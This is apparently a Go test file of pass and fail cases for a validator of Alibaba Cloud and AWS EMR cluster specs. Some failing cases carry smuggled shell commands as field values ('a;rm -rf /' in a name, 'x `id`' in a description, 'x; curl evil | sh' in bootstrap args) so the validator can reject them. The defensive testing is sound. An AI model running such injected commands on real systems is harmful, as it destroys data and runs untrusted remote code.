package spec

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// Bases of the rule cases: clean, defaulted examples.
const (
	baseDev        = "dev-cluster.yaml"
	baseHA         = "production-separated.yaml"
	baseIntegrated = "production-integrated.yaml"
	baseAWS        = "aws-spark-cluster.yaml"
)

// ruleCase is one passing or failing case of one rule.
type ruleCase struct {
	rule   string
	name   string
	base   string // default baseDev
	opts   ValidateOptions
	mutate func(c *Cluster)
	// fail says the rule must report a problem; otherwise it must not.
	fail bool
	// warn says the expected problem is a warning (fail cases only).
	warn bool
	// path is the expected problem path (fail cases only; "" skips it).
	path string
}

func without(list []string, drop string) []string {
	return slices.DeleteFunc(slices.Clone(list), func(s string) bool { return s == drop })
}

func addTask(c *Cluster, g NodeGroup) {
	if g.Name == "" {
		g.Name = "task"
	}
	g.Role = RoleTask
	if g.Count == nil {
		g.Count = ptr(2)
	}
	if g.InstanceTypes == nil {
		g.InstanceTypes = []string{"ecs.g8i.xlarge"}
	}
	if c.Provider == ProviderAliyun {
		g.VSwitchIDs = []string{SandboxVSwitchID}
		g.PaymentType = PaymentPayAsYouGo
		g.SystemDisk = &SystemDisk{Category: DiskESSD, Size: 120}
		g.DataDisks = []DataDisk{{Category: DiskESSD, Size: 80, Count: 1}}
	}
	c.NodeGroups = append(c.NodeGroups, g)
}

func validFleets() []AWSInstanceFleet {
	return []AWSInstanceFleet{
		{Name: "master", Role: RoleMaster, TargetOnDemandCapacity: 1, InstanceTypeConfigs: []AWSInstanceTypeConfig{{InstanceType: "m5.xlarge"}}},
		{Name: "core", Role: RoleCore, TargetOnDemandCapacity: 2, TargetSpotCapacity: 4, SpotTimeoutMinutes: 60, SpotTimeoutAction: "SWITCH_TO_ON_DEMAND",
			InstanceTypeConfigs: []AWSInstanceTypeConfig{{InstanceType: "m5.2xlarge", BidPrice: "0.15"}, {InstanceType: "m4.2xlarge", BidPriceAsPercentageOfOnDemandPrice: 80}}},
	}
}

// ruleCases covers every rule with at least one passing and one failing case.
func ruleCases() []ruleCase {
	return []ruleCase{
		{rule: ruleAPIVersion, name: "clean spec", mutate: func(c *Cluster) {}},
		{rule: ruleAPIVersion, name: "wrong kind", fail: true, path: "kind", mutate: func(c *Cluster) { c.Kind = "Clusters" }},

		{rule: ruleName, name: "Chinese, digits, - and _", mutate: func(c *Cluster) { c.Name = "数据湖-dev_1" }},
		{rule: ruleName, name: "shell syntax", fail: true, path: "name", mutate: func(c *Cluster) { c.Name = "a;rm -rf /" }},
		{rule: ruleName, name: "empty", fail: true, path: "name", mutate: func(c *Cluster) { c.Name = "" }},

		{rule: ruleDescription, name: "plain text", mutate: func(c *Cluster) { c.Description = "Team ETL dev cluster (Q3)" }},
		{rule: ruleDescription, name: "command substitution", fail: true, path: "description", mutate: func(c *Cluster) { c.Description = "x `id`" }},

		{rule: ruleProvider, name: "aws", base: baseAWS, mutate: func(c *Cluster) {}},
		{rule: ruleProvider, name: "unknown", fail: true, path: "provider", mutate: func(c *Cluster) { c.Provider = "gcp" }},

		{rule: ruleProviderFields, name: "aws spec without aliyun fields", base: baseAWS, mutate: func(c *Cluster) {}},
		{rule: ruleProviderFields, name: "aws block on aliyun", fail: true, path: "aws", mutate: func(c *Cluster) { c.AWS = &AWS{} }},
		{rule: ruleProviderFields, name: "network on aws", base: baseAWS, fail: true, path: "network", mutate: func(c *Cluster) { c.Network = &Network{} }},
		{rule: ruleProviderFields, name: "disks on an instance group", base: baseAWS, fail: true, path: "nodeGroups[0].systemDisk",
			mutate: func(c *Cluster) { c.NodeGroups[0].SystemDisk = &SystemDisk{} }},

		{rule: ruleRegion, name: "region ID", mutate: func(c *Cluster) { c.Region = "cn-hangzhou" }},
		{rule: ruleRegion, name: "display name", fail: true, path: "region", mutate: func(c *Cluster) { c.Region = "Hangzhou" }},
		{rule: ruleRegion, name: "missing", fail: true, path: "region", mutate: func(c *Cluster) { c.Region = "" }},

		{rule: ruleReleaseVersion, name: "older release", mutate: func(c *Cluster) { c.ReleaseVersion = "EMR-5.17.1" }},
		{rule: ruleReleaseVersion, name: "no prefix", fail: true, path: "releaseVersion", mutate: func(c *Cluster) { c.ReleaseVersion = "5.21.0" }},
		{rule: ruleReleaseVersion, name: "aws label in Alibaba form", base: baseAWS, fail: true, path: "releaseVersion", mutate: func(c *Cluster) { c.ReleaseVersion = "EMR-7.2.0" }},

		{rule: ruleTags, name: "ordinary tags", mutate: func(c *Cluster) { c.Tags = map[string]string{"team": "etl", "env": "dev"} }},
		{rule: ruleTags, name: "reserved prefix", fail: true, mutate: func(c *Cluster) { c.Tags = map[string]string{"acs:owner": "x"} }},
		{rule: ruleTags, name: "too many", fail: true, path: "tags", mutate: func(c *Cluster) {
			c.Tags = map[string]string{}
			for i := range 21 {
				c.Tags[fmt.Sprintf("k%d", i)] = "v"
			}
		}},

		{rule: ruleBootstrap, name: "own bucket, node group selector", mutate: func(c *Cluster) {
			c.BootstrapScripts = []BootstrapScript{{Name: "init", Path: "oss://my-bucket/scripts/init.sh", Args: "-m 30 --host 10.0.0.5",
				Moment: BeforeInstall, FailStrategy: FailedBlock, NodeSelector: &NodeSelector{Type: SelectNodeGroup, NodeGroupNames: []string{"core"}}}}
		}},
		{rule: ruleBootstrap, name: "https URL", fail: true, path: "bootstrapScripts[0].path", mutate: func(c *Cluster) {
			c.BootstrapScripts = []BootstrapScript{{Name: "init", Path: "https://example.com/init.sh", Moment: BeforeInstall, FailStrategy: FailedBlock, NodeSelector: &NodeSelector{Type: SelectCluster}}}
		}},
		{rule: ruleBootstrap, name: "s3 path on aliyun", fail: true, path: "bootstrapScripts[0].path", mutate: func(c *Cluster) {
			c.BootstrapScripts = []BootstrapScript{{Name: "init", Path: "s3://my-bucket/init.sh", Moment: BeforeInstall, FailStrategy: FailedBlock, NodeSelector: &NodeSelector{Type: SelectCluster}}}
		}},
		{rule: ruleBootstrap, name: "shell in args", fail: true, path: "bootstrapScripts[0].args", mutate: func(c *Cluster) {
			c.BootstrapScripts = []BootstrapScript{{Name: "init", Path: "oss://my-bucket/init.sh", Args: "x; curl evil | sh", Moment: BeforeInstall, FailStrategy: FailedBlock, NodeSelector: &NodeSelector{Type: SelectCluster}}}
		}},
		{rule: ruleBootstrap, name: "unknown node group", fail: true, path: "bootstrapScripts[0].nodeSelector.nodeGroupNames[0]", mutate: func(c *Cluster) {
			c.BootstrapScripts = []BootstrapScript{{Name: "init", Path: "oss://my-bucket/init.sh", Moment: BeforeInstall, FailStrategy: FailedBlock,
				NodeSelector: &NodeSelector{Type: SelectNodeGroup, NodeGroupNames: []string{"gateway"}}}}
		}},
		{rule: ruleBootstrap, name: "http URL on aws", base: baseAWS, fail: true, path: "bootstrapScripts[0].path",
			mutate: func(c *Cluster) { c.BootstrapScripts[0].Path = "http://example.com/x.sh" }},

		{rule: ruleNodeGroupName, name: "underscore inside", mutate: func(c *Cluster) { c.NodeGroups[1].Name = "core_1" }},
		{rule: ruleNodeGroupName, name: "duplicate", fail: true, path: "nodeGroups[1].name", mutate: func(c *Cluster) { c.NodeGroups[1].Name = "master" }},
		{rule: ruleNodeGroupName, name: "leading dash", fail: true, path: "nodeGroups[1].name", mutate: func(c *Cluster) { c.NodeGroups[1].Name = "-core" }},

		{rule: ruleNodeCount, name: "empty TASK group", mutate: func(c *Cluster) { addTask(c, NodeGroup{Count: ptr(0)}) }},
		{rule: ruleNodeCount, name: "missing count", fail: true, path: "nodeGroups[1].count", mutate: func(c *Cluster) { c.NodeGroups[1].Count = nil }},
		{rule: ruleNodeCount, name: "negative", fail: true, path: "nodeGroups[1].count", mutate: func(c *Cluster) { c.NodeGroups[1].Count = ptr(-1) }},
		{rule: ruleNodeCount, name: "above the policy limit", fail: true, path: "nodeGroups[1].count", mutate: func(c *Cluster) { c.NodeGroups[1].Count = ptr(51) }},
		{rule: ruleNodeCount, name: "a tighter policy limit", opts: ValidateOptions{NodeGroupMaxAtCreate: 1}, fail: true, path: "nodeGroups[1].count", mutate: func(c *Cluster) {}},
		{rule: ruleNodeCount, name: "fleet above the limit", base: baseAWS, fail: true, path: "aws.instanceFleets[1]", mutate: func(c *Cluster) {
			c.NodeGroups = nil
			c.AWS.InstanceFleets = validFleets()
			c.AWS.InstanceFleets[1].TargetSpotCapacity = 60
		}},

		{rule: ruleTotalNodes, name: "small cluster", mutate: func(c *Cluster) {}},
		{rule: ruleTotalNodes, name: "above the threshold", opts: ValidateOptions{TotalNodesAckThreshold: 2}, fail: true, warn: true, path: "nodeGroups", mutate: func(c *Cluster) {}},

		{rule: ruleInstanceTypes, name: "several types", mutate: func(c *Cluster) { c.NodeGroups[1].InstanceTypes = []string{"ecs.g8i.xlarge", "ecs.g8i.2xlarge"} }},
		{rule: ruleInstanceTypes, name: "none", fail: true, path: "nodeGroups[1].instanceTypes", mutate: func(c *Cluster) { c.NodeGroups[1].InstanceTypes = nil }},
		{rule: ruleInstanceTypes, name: "missing ecs prefix", fail: true, path: "nodeGroups[1].instanceTypes[0]", mutate: func(c *Cluster) { c.NodeGroups[1].InstanceTypes = []string{"g8i.xlarge"} }},
		{rule: ruleInstanceTypes, name: "ECS type on aws", base: baseAWS, fail: true, path: "nodeGroups[0].instanceTypes[0]", mutate: func(c *Cluster) { c.NodeGroups[0].InstanceTypes = []string{"ecs.g8i.xlarge"} }},

		{rule: ruleClusterType, name: "custom", mutate: func(c *Cluster) { c.ClusterType = ClusterTypeCustom }},
		{rule: ruleClusterType, name: "misspelt", fail: true, path: "clusterType", mutate: func(c *Cluster) { c.ClusterType = "DATALAKES" }},
		{rule: ruleClusterType, name: "missing", fail: true, path: "clusterType", mutate: func(c *Cluster) { c.ClusterType = "" }},

		{rule: ruleDeployMode, name: "HA", base: baseHA, mutate: func(c *Cluster) {}},
		{rule: ruleDeployMode, name: "unknown", fail: true, path: "deployMode", mutate: func(c *Cluster) { c.DeployMode = "HIGH" }},

		{rule: ruleSecurityMode, name: "Kerberos with its component", mutate: func(c *Cluster) {
			c.SecurityMode = SecurityKerberos
			c.Applications = append(c.Applications, "KERBEROS")
		}},
		{rule: ruleSecurityMode, name: "unknown", fail: true, path: "securityMode", mutate: func(c *Cluster) { c.SecurityMode = "SSL" }},
		{rule: ruleSecurityMode, name: "Kerberos without its component", fail: true, warn: true, path: "securityMode", mutate: func(c *Cluster) { c.SecurityMode = SecurityKerberos }},

		{rule: ruleResourceGroup, name: "resource group ID", mutate: func(c *Cluster) { c.ResourceGroupID = "rg-acfmzabjyop1234" }},
		{rule: ruleResourceGroup, name: "name instead of ID", fail: true, path: "resourceGroupId", mutate: func(c *Cluster) { c.ResourceGroupID = "default group" }},

		{rule: ruleApplicationsRequired, name: "some", mutate: func(c *Cluster) {}},
		{rule: ruleApplicationsRequired, name: "none", fail: true, path: "applications", mutate: func(c *Cluster) { c.Applications = nil }},
		{rule: ruleApplicationsRequired, name: "none on aws", base: baseAWS, fail: true, path: "applications", mutate: func(c *Cluster) { c.Applications = nil }},

		{rule: ruleComponentUnknown, name: "known", mutate: func(c *Cluster) {}},
		{rule: ruleComponentUnknown, name: "misspelt", fail: true, path: "applications[7]", mutate: func(c *Cluster) { c.Applications = append(c.Applications, "ZOOKEPER") }},
		{rule: ruleComponentUnknown, name: "internal service", fail: true, warn: true, path: "applications[7]", mutate: func(c *Cluster) { c.Applications = append(c.Applications, "JINDOSDK") }},

		{rule: ruleComponentDuplicate, name: "each once", mutate: func(c *Cluster) {}},
		{rule: ruleComponentDuplicate, name: "twice", fail: true, path: "applications[7]", mutate: func(c *Cluster) { c.Applications = append(c.Applications, "HDFS") }},

		{rule: ruleComponentDependency, name: "OSS-HDFS instead of HDFS", base: baseHA, mutate: func(c *Cluster) {}},
		{rule: ruleComponentDependency, name: "direct", fail: true, path: "applications", mutate: func(c *Cluster) { c.Applications = without(c.Applications, "YARN") }},
		{rule: ruleComponentDependency, name: "transitive", fail: true, path: "applications", mutate: func(c *Cluster) { c.Applications = []string{"KYUUBI"} }},

		{rule: ruleComponentExclusive, name: "one Spark", mutate: func(c *Cluster) {}},
		{rule: ruleComponentExclusive, name: "both Sparks", fail: true, path: "applications", mutate: func(c *Cluster) { c.Applications = append(c.Applications, "SPARK2") }},
		{rule: ruleComponentExclusive, name: "HDFS and OSS-HDFS", fail: true, path: "applications", mutate: func(c *Cluster) { c.Applications = append(c.Applications, "OSS-HDFS") }},

		{rule: ruleComponentType, name: "HBASE on CUSTOM", mutate: func(c *Cluster) {
			c.ClusterType = ClusterTypeCustom
			c.Applications = append(c.Applications, "HBASE")
		}},
		{rule: ruleComponentType, name: "HBASE on DATALAKE", fail: true, path: "applications[7]", mutate: func(c *Cluster) { c.Applications = append(c.Applications, "HBASE") }},

		{rule: ruleMasterGroup, name: "one", mutate: func(c *Cluster) {}},
		{rule: ruleMasterGroup, name: "none", fail: true, path: "nodeGroups", mutate: func(c *Cluster) { c.NodeGroups[0].Role = RoleCore }},
		{rule: ruleMasterGroup, name: "two", fail: true, path: "nodeGroups[1].role", mutate: func(c *Cluster) { c.NodeGroups[1].Role = RoleMaster }},
		{rule: ruleMasterGroup, name: "no node groups", fail: true, path: "nodeGroups", mutate: func(c *Cluster) { c.NodeGroups = nil }},

		{rule: ruleMasterCount, name: "HA with 3", base: baseHA, mutate: func(c *Cluster) {}},
		{rule: ruleMasterCount, name: "NORMAL with 3", fail: true, path: "nodeGroups[0].count", mutate: func(c *Cluster) { c.NodeGroups[0].Count = ptr(3) }},
		{rule: ruleMasterCount, name: "HA with 1", base: baseHA, fail: true, path: "nodeGroups[0].count", mutate: func(c *Cluster) { c.NodeGroups[0].Count = ptr(1) }},
		{rule: ruleMasterCount, name: "aws with 2", base: baseAWS, fail: true, path: "nodeGroups[0].count", mutate: func(c *Cluster) { c.NodeGroups[0].Count = ptr(2) }},

		{rule: ruleHAZooKeeper, name: "HA with ZOOKEEPER", base: baseHA, mutate: func(c *Cluster) {}},
		{rule: ruleHAZooKeeper, name: "HA without ZOOKEEPER", base: baseHA, fail: true, path: "applications", mutate: func(c *Cluster) { c.Applications = without(c.Applications, "ZOOKEEPER") }},

		{rule: ruleHAMetastore, name: "HA with DLF", base: baseHA, mutate: func(c *Cluster) { c.Metastore = &Metastore{Type: MetastoreDLF} }},
		{rule: ruleHAMetastore, name: "HA with LOCAL", base: baseHA, fail: true, path: "metastore.type", mutate: func(c *Cluster) { c.Metastore = &Metastore{Type: MetastoreLocal} }},

		{rule: ruleHiveMetastore, name: "raw config items", mutate: func(c *Cluster) {
			c.Metastore = nil
			c.ApplicationConfigs = []AppConfig{
				{Application: "HIVE", File: "hivemetastore-site.xml", Key: "hive.metastore.type", Value: "LOCAL"},
				{Application: "SPARK3", File: "hive-site.xml", Key: "hive.metastore.type", Value: "LOCAL"},
			}
		}},
		{rule: ruleHiveMetastore, name: "no metastore type", fail: true, path: "metastore.type", mutate: func(c *Cluster) { c.Metastore = nil }},

		{rule: ruleSparkMetastore, name: "metastore block", mutate: func(c *Cluster) {}},
		{rule: ruleSparkMetastore, name: "raw HIVE item only", fail: true, path: "applicationConfigs", mutate: func(c *Cluster) {
			c.Metastore = nil
			c.ApplicationConfigs = []AppConfig{{Application: "HIVE", File: "hivemetastore-site.xml", Key: "hive.metastore.type", Value: "LOCAL"}}
		}},
		{rule: ruleSparkMetastore, name: "different types", fail: true, path: "applicationConfigs[1].value", mutate: func(c *Cluster) {
			c.Metastore = nil
			c.ApplicationConfigs = []AppConfig{
				{Application: "HIVE", File: "hivemetastore-site.xml", Key: "hive.metastore.type", Value: "LOCAL"},
				{Application: "SPARK3", File: "hive-site.xml", Key: "hive.metastore.type", Value: "DLF"},
			}
		}},

		{rule: ruleMetastore, name: "DLF", mutate: func(c *Cluster) { c.Metastore = &Metastore{Type: MetastoreDLF} }},
		{rule: ruleMetastore, name: "unknown type", fail: true, path: "metastore.type", mutate: func(c *Cluster) { c.Metastore = &Metastore{Type: "RDS"} }},
		{rule: ruleMetastore, name: "without HIVE", fail: true, warn: true, path: "metastore", mutate: func(c *Cluster) {
			c.Applications = []string{"HADOOP-COMMON", "HDFS", "YARN", "ZOOKEEPER"}
		}},

		{rule: ruleMetastoreRDS, name: "complete", base: baseHA, mutate: func(c *Cluster) {}},
		{rule: ruleMetastoreRDS, name: "URL without database", base: baseHA, fail: true, path: "metastore.rds.url", mutate: func(c *Cluster) { c.Metastore.RDS.URL = "jdbc:mysql://rm-x.mysql.rds.aliyuncs.com:3306" }},
		{rule: ruleMetastoreRDS, name: "password instead of a variable name", base: baseHA, fail: true, path: "metastore.rds.passwordEnv", mutate: func(c *Cluster) { c.Metastore.RDS.PasswordEnv = "Hive#2024!" }},
		{rule: ruleMetastoreRDS, name: "no connection", base: baseHA, fail: true, path: "metastore.rds", mutate: func(c *Cluster) { c.Metastore.RDS = nil }},
		{rule: ruleMetastoreRDS, name: "no username", base: baseHA, fail: true, path: "metastore.rds.username", mutate: func(c *Cluster) { c.Metastore.RDS.Username = "" }},

		{rule: ruleMetastoreVPC, name: "same VPC", base: baseHA, mutate: func(c *Cluster) {}},
		{rule: ruleMetastoreVPC, name: "other VPC", base: baseHA, fail: true, path: "metastore.rds.vpcId", mutate: func(c *Cluster) { c.Metastore.RDS.VpcID = "vpc-bp1othervpc00000001" }},
		{rule: ruleMetastoreVPC, name: "VPC not given", base: baseHA, fail: true, warn: true, path: "metastore.rds.vpcId", mutate: func(c *Cluster) { c.Metastore.RDS.VpcID = "" }},

		{rule: ruleOSSHDFSRoot, name: "bucket root", base: baseHA, mutate: func(c *Cluster) {}},
		{rule: ruleOSSHDFSRoot, name: "plain OSS path", base: baseHA, fail: true, path: "ossHdfs.rootUri", mutate: func(c *Cluster) { c.OSSHDFS.RootURI = "oss://bucket/data/" }},
		{rule: ruleOSSHDFSRoot, name: "other region", base: baseHA, fail: true, path: "ossHdfs.rootUri", mutate: func(c *Cluster) {
			c.OSSHDFS.RootURI = "oss://emrctl-sandbox-datalake.cn-beijing.oss-dls.aliyuncs.com/"
		}},
		{rule: ruleOSSHDFSRoot, name: "missing", base: baseHA, fail: true, path: "ossHdfs.rootUri", mutate: func(c *Cluster) { c.OSSHDFS = nil }},

		{rule: ruleAppConfig, name: "node group item", mutate: func(c *Cluster) {
			c.ApplicationConfigs = []AppConfig{{Application: "HDFS", File: "hdfs-site.xml", Key: "dfs.replication", Value: "2", Scope: ScopeNodeGroup, NodeGroupName: "core"}}
		}},
		{rule: ruleAppConfig, name: "application not selected", fail: true, path: "applicationConfigs[0].application", mutate: func(c *Cluster) {
			c.ApplicationConfigs = []AppConfig{{Application: "HBASE", File: "hbase-site.xml", Key: "hbase.regionserver.handler.count", Value: "60"}}
		}},
		{rule: ruleAppConfig, name: "unknown node group", fail: true, path: "applicationConfigs[0].nodeGroupName", mutate: func(c *Cluster) {
			c.ApplicationConfigs = []AppConfig{{Application: "HDFS", File: "hdfs-site.xml", Key: "dfs.replication", Value: "2", Scope: ScopeNodeGroup, NodeGroupName: "task"}}
		}},
		{rule: ruleAppConfig, name: "duplicate", fail: true, path: "applicationConfigs[1]", mutate: func(c *Cluster) {
			item := AppConfig{Application: "HDFS", File: "hdfs-site.xml", Key: "dfs.replication", Value: "2"}
			c.ApplicationConfigs = []AppConfig{item, item}
		}},
		{rule: ruleAppConfig, name: "overrides the metastore block", fail: true, path: "applicationConfigs[0]", mutate: func(c *Cluster) {
			c.ApplicationConfigs = []AppConfig{{Application: "HIVE", File: "hivemetastore-site.xml", Key: "hive.metastore.type", Value: "DLF"}}
		}},

		{rule: ruleInlineSecret, name: "ordinary item", mutate: func(c *Cluster) {
			c.ApplicationConfigs = []AppConfig{{Application: "HDFS", File: "hdfs-site.xml", Key: "dfs.replication", Value: "2"}}
		}},
		{rule: ruleInlineSecret, name: "metastore password", fail: true, path: "applicationConfigs[0].value", mutate: func(c *Cluster) {
			c.Metastore = nil
			c.ApplicationConfigs = []AppConfig{{Application: "HIVE", File: "hivemetastore-site.xml", Key: "javax.jdo.option.ConnectionPassword", Value: "x"}}
		}},
		{rule: ruleInlineSecret, name: "secret-looking key", fail: true, warn: true, path: "applicationConfigs[0].value", mutate: func(c *Cluster) {
			c.ApplicationConfigs = []AppConfig{{Application: "HDFS", File: "core-site.xml", Key: "fs.oss.accessKeySecret", Value: "x"}}
		}},

		{rule: ruleNetwork, name: "complete", mutate: func(c *Cluster) {}},
		{rule: ruleNetwork, name: "no VPC", fail: true, path: "network.vpcId", mutate: func(c *Cluster) { c.Network.VpcID = "" }},
		{rule: ruleNetwork, name: "zone of another region", fail: true, path: "network.zoneId", mutate: func(c *Cluster) { c.Network.ZoneID = "cn-shanghai-e" }},
		{rule: ruleNetwork, name: "bad security group ID", fail: true, path: "network.securityGroupId", mutate: func(c *Cluster) { c.Network.SecurityGroupID = "sg_default" }},
		{rule: ruleNetwork, name: "no network", fail: true, path: "network.securityGroupId", mutate: func(c *Cluster) { c.Network = nil }},

		{rule: ruleVSwitchRequired, name: "from network", mutate: func(c *Cluster) {}},
		{rule: ruleVSwitchRequired, name: "none", fail: true, path: "nodeGroups[1].vSwitchIds", mutate: func(c *Cluster) { c.NodeGroups[1].VSwitchIDs = nil }},
		{rule: ruleVSwitchRequired, name: "bad ID", fail: true, path: "nodeGroups[1].vSwitchIds[0]", mutate: func(c *Cluster) { c.NodeGroups[1].VSwitchIDs = []string{"vsw-BAD"} }},

		{rule: ruleLogin, name: "root password from a variable", mutate: func(c *Cluster) {
			c.Network.KeyPairName = ""
			c.Network.MasterRootPasswordEnv = DefaultRootPasswordEnv
		}},
		{rule: ruleLogin, name: "neither key pair nor password", fail: true, path: "network.keyPairName", mutate: func(c *Cluster) { c.Network.KeyPairName = "" }},
		{rule: ruleLogin, name: "password written as the variable", fail: true, path: "network.masterRootPasswordEnv", mutate: func(c *Cluster) { c.Network.MasterRootPasswordEnv = "Secr3t!pass" }},

		{rule: ruleNodeRole, name: "gateway", mutate: func(c *Cluster) { addTask(c, NodeGroup{Name: "gw"}); c.NodeGroups[2].Role = RoleGateway }},
		{rule: ruleNodeRole, name: "unknown", fail: true, path: "nodeGroups[1].role", mutate: func(c *Cluster) { c.NodeGroups[1].Role = "WORKER" }},

		{rule: ruleMasterExtend, name: "HA on EMR-5.21.0", base: baseHA, mutate: func(c *Cluster) { addTask(c, NodeGroup{Name: "mx"}); c.NodeGroups[3].Role = RoleMasterExtend }},
		{rule: ruleMasterExtend, name: "NORMAL", fail: true, path: "nodeGroups[2].role", mutate: func(c *Cluster) { addTask(c, NodeGroup{Name: "mx"}); c.NodeGroups[2].Role = RoleMasterExtend }},
		{rule: ruleMasterExtend, name: "old release", base: baseHA, fail: true, path: "nodeGroups[3].role", mutate: func(c *Cluster) {
			c.ReleaseVersion = "EMR-5.16.0"
			addTask(c, NodeGroup{Name: "mx"})
			c.NodeGroups[3].Role = RoleMasterExtend
		}},

		{rule: ruleGateway, name: "DATAFLOW on EMR-5.10.1", mutate: func(c *Cluster) {
			c.ClusterType, c.ReleaseVersion = ClusterTypeDataFlow, "EMR-5.10.1"
			addTask(c, NodeGroup{Name: "gw"})
			c.NodeGroups[2].Role = RoleGateway
		}},
		{rule: ruleGateway, name: "DATASERVING", fail: true, path: "nodeGroups[2].role", mutate: func(c *Cluster) {
			c.ClusterType = ClusterTypeDataServing
			addTask(c, NodeGroup{Name: "gw"})
			c.NodeGroups[2].Role = RoleGateway
		}},
		{rule: ruleGateway, name: "CUSTOM before EMR-5.17.1", fail: true, path: "nodeGroups[2].role", mutate: func(c *Cluster) {
			c.ClusterType, c.ReleaseVersion = ClusterTypeCustom, "EMR-5.16.0"
			addTask(c, NodeGroup{Name: "gw"})
			c.NodeGroups[2].Role = RoleGateway
		}},

		{rule: ruleCoreCount, name: "two", mutate: func(c *Cluster) {}},
		{rule: ruleCoreCount, name: "one", fail: true, warn: true, path: "nodeGroups[1].count", mutate: func(c *Cluster) { c.NodeGroups[1].Count = ptr(1) }},

		{rule: ruleDiskCategory, name: "cloud_auto", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks[0].Category = DiskAuto }},
		{rule: ruleDiskCategory, name: "local system disk", fail: true, path: "nodeGroups[1].systemDisk.category", mutate: func(c *Cluster) { c.NodeGroups[1].SystemDisk.Category = DiskLocalHDD }},
		{rule: ruleDiskCategory, name: "unknown", fail: true, path: "nodeGroups[1].dataDisks[0].category", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks[0].Category = "ssd" }},
		{rule: ruleDiskCategory, name: "old generation", fail: true, warn: true, path: "nodeGroups[1].dataDisks[0].category", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks[0].Category = DiskSSD }},

		{rule: ruleDiskSize, name: "largest system disk", mutate: func(c *Cluster) { c.NodeGroups[1].SystemDisk.Size = 500 }},
		{rule: ruleDiskSize, name: "small system disk", fail: true, path: "nodeGroups[1].systemDisk.size", mutate: func(c *Cluster) { c.NodeGroups[1].SystemDisk.Size = 40 }},
		{rule: ruleDiskSize, name: "tiny data disk", fail: true, path: "nodeGroups[1].dataDisks[0].size", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks[0].Size = 10 }},
		{rule: ruleDiskSize, name: "PL2 too small", fail: true, path: "nodeGroups[1].dataDisks[0].size", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks[0].PerformanceLevel = "PL2" }},

		{rule: ruleDiskCount, name: "sixteen", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks[0].Count = 16 }},
		{rule: ruleDiskCount, name: "seventeen", fail: true, path: "nodeGroups[1].dataDisks[0].count", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks[0].Count = 17 }},
		{rule: ruleDiskCount, name: "two entries", fail: true, path: "nodeGroups[1].dataDisks", mutate: func(c *Cluster) {
			c.NodeGroups[1].DataDisks = append(c.NodeGroups[1].DataDisks, c.NodeGroups[1].DataDisks[0])
		}},
		{rule: ruleDiskCount, name: "no data disk", fail: true, path: "nodeGroups[1].dataDisks", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks = []DataDisk{} }},

		{rule: ruleDiskPerformance, name: "PL0 on ESSD", mutate: func(c *Cluster) { c.NodeGroups[1].DataDisks[0].PerformanceLevel = "PL0" }},
		{rule: ruleDiskPerformance, name: "on cloud_efficiency", fail: true, path: "nodeGroups[1].dataDisks[0].performanceLevel", mutate: func(c *Cluster) {
			c.NodeGroups[1].DataDisks[0] = DataDisk{Category: DiskEfficiency, Size: 80, Count: 4, PerformanceLevel: "PL1"}
		}},
		{rule: ruleDiskPerformance, name: "unknown level", fail: true, path: "nodeGroups[1].systemDisk.performanceLevel", mutate: func(c *Cluster) { c.NodeGroups[1].SystemDisk.PerformanceLevel = "PL9" }},

		{rule: ruleDiskOldFamily, name: "g6 with cloud_efficiency", mutate: func(c *Cluster) {
			c.NodeGroups[1].InstanceTypes = []string{"ecs.g6.xlarge"}
			c.NodeGroups[1].DataDisks[0] = DataDisk{Category: DiskEfficiency, Size: 80, Count: 1}
		}},
		{rule: ruleDiskOldFamily, name: "g6 with four ESSDs", mutate: func(c *Cluster) {
			c.NodeGroups[1].InstanceTypes = []string{"ecs.g6.xlarge"}
			c.NodeGroups[1].DataDisks[0].Count = 4
		}},
		{rule: ruleDiskOldFamily, name: "g6 with one ESSD", fail: true, path: "nodeGroups[0].dataDisks[0]", mutate: func(c *Cluster) { c.NodeGroups[0].InstanceTypes = []string{"ecs.g6.xlarge"} }},
		{rule: ruleDiskOldFamily, name: "sn2ne among several types", fail: true, path: "nodeGroups[0].dataDisks[0]", mutate: func(c *Cluster) {
			c.NodeGroups[0].InstanceTypes = []string{"ecs.g8i.xlarge", "ecs.sn2ne.xlarge"}
		}},

		{rule: ruleDiskEfficiencyCount, name: "CUSTOM with four", mutate: func(c *Cluster) {
			c.ClusterType = ClusterTypeCustom
			c.NodeGroups[1].DataDisks[0] = DataDisk{Category: DiskEfficiency, Size: 80, Count: 4}
		}},
		{rule: ruleDiskEfficiencyCount, name: "CUSTOM with two", fail: true, warn: true, path: "nodeGroups[1].dataDisks[0].count", mutate: func(c *Cluster) {
			c.ClusterType = ClusterTypeCustom
			c.NodeGroups[1].DataDisks[0] = DataDisk{Category: DiskEfficiency, Size: 80, Count: 2}
		}},

		{rule: ruleSpot, name: "TASK with a price limit", mutate: func(c *Cluster) {
			addTask(c, NodeGroup{Spot: &Spot{Strategy: SpotWithPriceLimit, BidPrices: []BidPrice{{InstanceType: "ecs.g8i.xlarge", Price: 0.5}}}, SpotInstanceRemedy: true})
		}},
		{rule: ruleSpot, name: "aws TASK with a bid price", base: baseAWS, mutate: func(c *Cluster) {}},
		{rule: ruleSpot, name: "price limit without prices", fail: true, path: "nodeGroups[2].spot.bidPrices", mutate: func(c *Cluster) {
			addTask(c, NodeGroup{Spot: &Spot{Strategy: SpotWithPriceLimit}})
		}},
		{rule: ruleSpot, name: "price for another type", fail: true, path: "nodeGroups[2].spot.bidPrices[0].instanceType", mutate: func(c *Cluster) {
			addTask(c, NodeGroup{Spot: &Spot{Strategy: SpotWithPriceLimit, BidPrices: []BidPrice{{InstanceType: "ecs.c8i.2xlarge", Price: 0.5}}}})
		}},
		{rule: ruleSpot, name: "on MASTER", fail: true, path: "nodeGroups[0].spot.strategy", mutate: func(c *Cluster) { c.NodeGroups[0].Spot = &Spot{Strategy: SpotAsPriceGo} }},
		{rule: ruleSpot, name: "on CORE", fail: true, warn: true, path: "nodeGroups[1].spot.strategy", mutate: func(c *Cluster) { c.NodeGroups[1].Spot = &Spot{Strategy: SpotAsPriceGo} }},
